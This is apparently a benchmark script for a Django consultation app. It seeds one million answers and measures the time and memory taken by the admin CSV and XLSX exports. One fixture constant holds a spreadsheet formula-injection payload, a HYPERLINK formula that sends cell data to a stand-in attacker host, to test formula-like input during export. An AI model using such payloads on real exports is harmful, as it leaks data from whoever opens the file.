"""Exporting every response of a large consultation, as CSV and as XLSX, through the admin views.

python -m bench.export_responses [responses] [questions]

Defaults: 50,000 responses of 20 answers (one million answers). Prints one JSON line per
format with the seconds taken, the process's resident memory (before, peak while exporting,
and the growth), and the peak of the Python heap during a second, traced export: what the
export itself held, whatever the database keeps in the process (in-memory SQLite does).
Targets: under 60 s and under 200 MB.
"""

import random
import sys
import threading
import time
import tracemalloc
from contextlib import contextmanager

from bench.harness import emit, setup_django, throwaway_database

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
WORDS = tuple(
    [
        "research",
        "clusters",
        "need",
        "stable",
        "long",
        "term",
        "funding",
        "so",
        "that",
        "universities",
        "hospitals",
        "and",
        "companies",
        "can",
        "plan",
        "together",
        "train",
        "staff",
        "share",
        "equipment",
        "and",
        "bring",
        "new",
        "cancer",
        "tests",
        "and",
        "treatments",
        "to",
        "patients",
        "sooner",
    ]
)


def rss_mb() -> float:
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


@contextmanager
def peak_rss():
    """Sample resident memory every 20 ms while the block runs."""
    result = {"before_mb": rss_mb(), "peak_mb": rss_mb()}
    running = True

    def sample() -> None:
        while running:
            result["peak_mb"] = max(result["peak_mb"], rss_mb())
            time.sleep(0.02)

    thread = threading.Thread(target=sample, daemon=True)
    thread.start()
    try:
        yield result
    finally:
        running = False
        thread.join()
        result["peak_mb"] = max(result["peak_mb"], rss_mb())


def populate(responses: int, questions: int):
    """Responses in bulk, then their answers copied from one template response in a single INSERT … SELECT."""
    from django.db import connection, transaction
    from django.utils import timezone

    from consultations.duplicates import fingerprint
    from consultations.models import Answer, Question, Response
    from tests.factories import ConsultationFactory, SectionFactory

    rng = random.Random(8)
    consultation = ConsultationFactory(slug="bench")
    section = SectionFactory(consultation=consultation)
    kinds = ["text", "single", "multiple", "scale", "yesno"]
    made = [
        Question.objects.create(
            consultation=consultation,
            section=section,
            order=n,
            kind=kinds[n % len(kinds)],
            text=f"Question {n}?",
            options="North\nSouth\nEast\nWest",
            allow_other=True,
        )
        for n in range(questions)
    ]
    now = timezone.now()
    with transaction.atomic():
        for start in range(0, responses, 5000):
            Response.objects.bulk_create(
                Response(
                    consultation=consultation,
                    status="submitted",
                    token=f"token-{n}",
                    reference=f"CR-{n:08d}",
                    public_reference=f"R-{n:08d}",
                    email=f"person{n}@example.org",
                    name=f"Person {n}",
                    respondent_type="organisation" if n % 4 == 0 else "individual",
                    organisation="Cancer Alliance" if n % 4 == 0 else "",
                    tobacco_links="no",
                    consent="private",
                    submitted_at=now,
                )
                for n in range(start, min(start + 5000, responses))
            )
        template = Response.objects.filter(consultation=consultation).order_by("pk").first()
        for number, question in enumerate(made):
            if question.kind == "text":
                # One free-text answer in each response starts like a formula, as a hostile one would.
                text = HOSTILE if number == 0 else " ".join(rng.choices(WORDS, k=20))
                Answer.objects.create(response=template, question=question, text=text, fingerprint=fingerprint(text))
            else:
                Answer.objects.create(response=template, question=question, selected=[question.option_choices()[0][0]])
        columns = "response_id, question_id, selected, text, fingerprint, note, publication, published_text, " \
            "moderation_reasons"  # fmt: skip
        with connection.cursor() as cursor:
            cursor.execute(
                f"INSERT INTO consultations_answer ({columns}) "  # noqa: S608 - no user input
                "SELECT r.id, a.question_id, a.selected, a.text, a.fingerprint, a.note, a.publication, "
                "a.published_text, a.moderation_reasons "
                "FROM consultations_response r CROSS JOIN consultations_answer a "
                "WHERE a.response_id = %s AND r.consultation_id = %s AND r.id <> %s",
                [template.pk, consultation.pk, template.pk],
            )
    return consultation


def export(client, url: str) -> tuple[float, int, dict]:
    """Once timed, with resident memory sampled; then again under tracemalloc for the Python heap's peak."""
    with peak_rss() as memory:
        started = time.perf_counter()
        size = _download(client, url)
        elapsed = time.perf_counter() - started
    tracemalloc.start()
    _download(client, url)
    memory["heap_peak_mb"] = tracemalloc.get_traced_memory()[1] / 2**20
    tracemalloc.stop()
    return elapsed, size, memory


def _download(client, url: str) -> int:
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    size = sum(len(chunk) for chunk in response.streaming_content)
    response.close()
    return size


def main(responses: int, questions: int) -> None:
    setup_django()
    from django.db import connection
    from django.test import Client

    from tests.factories import UserFactory

    with throwaway_database():
        started = time.perf_counter()
        consultation = populate(responses, questions)
        populate_s = time.perf_counter() - started
        client = Client()
        client.force_login(UserFactory(username="bench", is_staff=True, is_superuser=True))
        base = f"/admin/consultations/consultation/{consultation.pk}"
        for kind in ("csv", "xlsx"):
            elapsed, size, memory = export(client, f"{base}/export.{kind}")
            emit(
                {
                    "bench": f"export_responses_{kind}",
                    "database": connection.vendor,
                    "responses": responses,
                    "answers": responses * questions,
                    "populate_s": round(populate_s, 1),
                    "seconds": round(elapsed, 1),
                    "bytes": size,
                    "rss_before_mb": round(memory["before_mb"], 1),
                    "rss_peak_mb": round(memory["peak_mb"], 1),
                    "rss_growth_mb": round(memory["peak_mb"] - memory["before_mb"], 1),
                    "python_heap_peak_mb": round(memory["heap_peak_mb"], 1),
                    "target": "under 60 s and 200 MB",
                }
            )


if __name__ == "__main__":
    main(
        int(sys.argv[1]) if len(sys.argv) > 1 else 50_000,
        int(sys.argv[2]) if len(sys.argv) > 2 else 20,
    )
